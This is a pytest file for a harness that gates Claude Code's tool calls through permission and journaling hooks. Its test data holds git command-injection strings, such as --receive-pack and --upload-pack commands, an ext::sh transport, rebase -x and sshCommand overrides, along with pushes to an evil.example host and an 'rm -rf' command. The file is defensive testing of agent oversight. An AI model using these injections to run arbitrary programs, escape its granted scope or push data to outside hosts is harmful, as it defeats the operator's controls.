"""What Claude Code's hooks decide about a call, from the operator's settings alone: which
calls are journaled, which the operator's rules permit, what a scoped git rule lets through
(checked against real git and a local bare repository), and how the preset installs the hooks
and keeps Claude Code from reading settings the agent writes."""

from __future__ import annotations

import json
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest

from surehand.agents import claude_hook
from surehand.agents.claude_hook import HookPolicy, decide, permission
from surehand.agents.command_setup import preset_options
from surehand.agents.presets import Invocation, PresetOptions, program_for
from surehand.config import Settings
from surehand.errors import ConfigError

ALLOWED = ("mcp__surehand", "Bash(git push:*)", "Bash(make test)", "mcp__github", "Web*")
POLICY = HookPolicy(effectful=("Bash", "WebFetch", "mcp__*"), allowed=ALLOWED)


def permits(tool: str, tool_input: dict[str, Any], mode: str = "default") -> bool:
    return permission(tool, tool_input, POLICY, mode).permitted


@pytest.mark.parametrize(
    ("tool", "journaled"),
    [
        ("Bash", True),
        ("mcp__github__create_pull_request", True),
        ("mcp__surehand__effect_begin", False),
        ("Read", False),
        ("WebFetch", True),
    ],
)
def test_the_hooks_journal_the_calls_of_effectful_tools_only(tool: str, journaled: bool) -> None:
    assert claude_hook.is_effectful(tool, POLICY.effectful) is journaled


def test_a_read_only_command_is_journaled_like_any_other_command() -> None:
    # Every Bash command first sources a shell snapshot the agent can rewrite, and git runs
    # filters and hooks from config it can write: no command is exempt any more.
    decision = decide(HookPolicy(allowed=("Bash",)), "Bash", {"command": "git status"}, "default")

    assert decision.action == "journal"


def test_the_retired_read_only_setting_stops_the_worker_at_start() -> None:
    settings = Settings(claude_read_only_commands="git status,ls")

    with pytest.raises(ConfigError, match="SUREHAND_CLAUDE_READ_ONLY_COMMANDS is retired"):
        preset_options(settings)


def test_a_journaled_call_is_the_same_effect_whatever_the_agent_says_about_it() -> None:
    first = claude_hook.operation_of("Bash", {"command": "make deploy", "description": "ship"})
    again = claude_hook.operation_of("Bash", {"command": "make deploy", "description": "go"})

    expected = {"undeclared": True, "tool": "Bash", "input": {"command": "make deploy"}}
    assert first == again == ("claude:Bash", expected)
    name, _ = claude_hook.operation_of("mcp__github__create_pull_request", {"title": "x"})
    assert name == "claude:mcp/github/create_pull_request"


@pytest.mark.parametrize(
    ("tool", "tool_input", "mode", "permitted"),
    [
        ("Bash", {"command": "git push origin main"}, "default", True),
        ("Bash", {"command": "git -C /srv/repo push origin main"}, "default", True),
        ("Bash", {"command": "git pushy"}, "default", False),
        ("Bash", {"command": "rm -rf build"}, "default", False),
        ("Bash", {"command": "git push origin main; rm -rf build"}, "default", False),
        ("Bash", {"command": "make test"}, "default", True),
        ("Bash", {"command": "make test-all"}, "default", False),
        ("mcp__github__create_pull_request", {}, "default", True),
        ("mcp__slack__post_message", {}, "default", False),
        ("WebFetch", {"url": "https://x.example"}, "default", True),
        ("mcp__slack__post_message", {}, "bypassPermissions", True),
    ],
)
def test_the_hooks_permit_only_what_the_operators_rules_allow(
    tool: str, tool_input: dict[str, str], mode: str, permitted: bool
) -> None:
    assert permits(tool, tool_input, mode) is permitted


@pytest.mark.parametrize(
    ("rule", "url", "permitted"),
    [
        ("WebFetch(domain:docs.example)", "https://docs.example/a", True),
        ("WebFetch(domain:docs.example)", "https://evil.example/docs.example", False),
        ("Bash(npm run *)", "", False),
    ],
)
def test_a_web_fetch_rule_permits_its_domain_only(rule: str, url: str, permitted: bool) -> None:
    verdict = permission("WebFetch", {"url": url}, HookPolicy(allowed=(rule,)), "default")

    assert verdict.permitted is permitted


def test_a_call_the_operator_did_not_permit_is_denied_naming_what_is_allowed() -> None:
    # Left to Claude Code, the refusal would come after the intent was recorded, and a refused
    # call gets no after event: the intent would stay open and hold the TASK.
    decision = decide(POLICY, "Bash", {"command": "rm -rf build"}, "default")

    assert decision.action == "deny"
    assert decision.reason.startswith("surehand: Bash is not permitted in this session")
    assert "Bash(git push:*)" in decision.reason


def test_a_background_command_is_denied_its_outcome_would_come_before_its_end() -> None:
    tool_input = {"command": "git push origin main", "run_in_background": True}

    decision = decide(POLICY, "Bash", tool_input, "default")

    assert decision.action == "deny"
    assert "run it in the foreground" in decision.reason


def test_a_permitted_git_command_runs_with_the_repositorys_hooks_and_monitor_turned_off() -> None:
    decision = decide(POLICY, "Bash", {"command": "git push origin 'HEAD:main'"}, "default")

    assert decision.action == "journal"
    assert decision.updated_input == {
        "command": "git -c core.fsmonitor=false -c core.hooksPath=/dev/null "
        "-c protocol.ext.allow=never push origin HEAD:main"
    }


@pytest.fixture
def pushing(tmp_path: Path) -> Path:
    """A repository with a commit, whose ``origin`` is a local bare repository."""
    origin, repo = tmp_path / "origin.git", tmp_path / "repo"
    subprocess.run(["git", "init", "-q", "--bare", str(origin)], check=True)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com"]
    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "first"], check=True)
    subprocess.run([*git, "remote", "add", "origin", str(origin)], check=True)
    return repo


INJECTIONS = [
    "git push --receive-pack='touch {marker}' origin HEAD:refs/heads/x",
    "git push --receive-pack 'touch {marker}' origin HEAD:refs/heads/x",
    "git push --exec='touch {marker}' origin HEAD:refs/heads/x",
    "git push --ex='touch {marker}' origin HEAD:refs/heads/x",  # git takes the abbreviation
]


@pytest.mark.parametrize("command", INJECTIONS)
def test_git_push_with_an_injected_receive_pack_is_refused_and_real_git_would_have_run_it(
    command: str, pushing: Path, tmp_path: Path
) -> None:
    marker = tmp_path / "injected"
    line = command.format(marker=marker)

    verdict = permission("Bash", {"command": line}, POLICY, "default")

    assert not verdict.permitted
    assert "refused under a scoped rule" in verdict.reason
    # The refusal is real: run as it was written, git runs the injected command.
    subprocess.run(shlex.split(line), cwd=pushing, capture_output=True, check=False)
    assert marker.exists()


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("git -c core.sshCommand=x push origin main", "before the subcommand"),
        ("git --config-env=core.sshCommand=X push origin main", "before the subcommand"),
        ("git push --mirror origin", "--mirror"),
        ("git push --all origin", "--all"),
        ("git push --repo=https://evil.example/x main", "--repo"),
        ("git push --signed origin main", "--signed"),
        ("git push https://evil.example/x.git main", "refused: this session pushes to origin"),
        ("git push /tmp/other.git main", "refused: this session pushes to origin"),
        ("git push", "name the remote"),
        ("git push -fx origin main", "-fx"),
    ],
)
def test_a_push_rule_refuses_what_git_push_could_do_beyond_pushing_to_a_configured_remote(
    command: str, why: str
) -> None:
    verdict = permission("Bash", {"command": command}, HookPolicy(allowed=("Bash(git:*)",)), "")

    assert not verdict.permitted
    assert why in verdict.reason


def test_the_remotes_a_push_may_name_are_the_sessions_grant() -> None:
    policy = HookPolicy(allowed=("Bash(git push:*)",), git_remotes=("upstream", "git@x:y.git"))

    def pushes(command: str) -> bool:
        return permission("Bash", {"command": command}, policy, "default").permitted

    assert pushes("git push upstream main")
    assert pushes("git push -u --force-with-lease git@x:y.git HEAD:main")
    assert not pushes("git push origin main")


@pytest.mark.parametrize(
    "command",
    [
        "git fetch --upload-pack='touch x' origin",
        "git ls-remote --upload-pack='touch x' origin",
        "git clone -u 'touch x' /srv/repo copy",
        "git clone -c core.fsmonitor='touch x' /srv/repo copy",
        "git clone --template=/tmp/hooks /srv/repo copy",
        "git fetch 'ext::sh -c touch% x'",
        "git rebase -x 'touch x' main",
        "git rebase --exec='touch x' main",
        "git submodule foreach 'touch x'",
        "git difftool -x 'touch x'",
        "git log --ext-diff",
    ],
)
def test_other_git_rules_refuse_what_makes_git_run_a_program(command: str) -> None:
    policy = HookPolicy(allowed=("Bash(git:*)",))

    assert not permission("Bash", {"command": command}, policy, "default").permitted


def test_a_plain_git_rule_still_permits_ordinary_git_commands() -> None:
    policy = HookPolicy(allowed=("Bash(git:*)",))

    for command in ("git commit -m 'x'", "git switch -c feature", "git fetch origin", "git log"):
        assert permission("Bash", {"command": command}, policy, "default").permitted, command


def test_real_git_refused_nothing_it_needs_to_push_to_the_configured_remote(
    pushing: Path, tmp_path: Path
) -> None:
    decision = decide(POLICY, "Bash", {"command": "git push origin HEAD:refs/heads/x"}, "")
    assert decision.updated_input is not None

    subprocess.run(shlex.split(decision.updated_input["command"]), cwd=pushing, check=True)

    branches = subprocess.run(
        ["git", "-C", str(tmp_path / "origin.git"), "branch"], capture_output=True, text=True
    )
    assert branches.stdout.split() == ["x"]


def test_the_preset_reads_no_settings_file_and_posts_its_hooks_to_the_session_server() -> None:
    session = Invocation(Path("/srv/sessions/A-1"), "http://127.0.0.1:4242/tasks/T-1/mcp")

    argv = program_for("claude", PresetOptions(hook_timeout=9)).argv(session)

    assert "--setting-sources=" in argv  # not the project's, local or user's settings
    hooks = json.loads(argv[argv.index("--settings") + 1])["hooks"]
    for event, path in (("PreToolUse", "pre"), ("PostToolUse", "post")):
        [hook] = hooks[event][0]["hooks"]
        assert hook["url"] == f"http://127.0.0.1:4242/tasks/T-1/hooks/{path}"
        assert (hook["timeout"], hook["onFailure"]) == (9, "block")
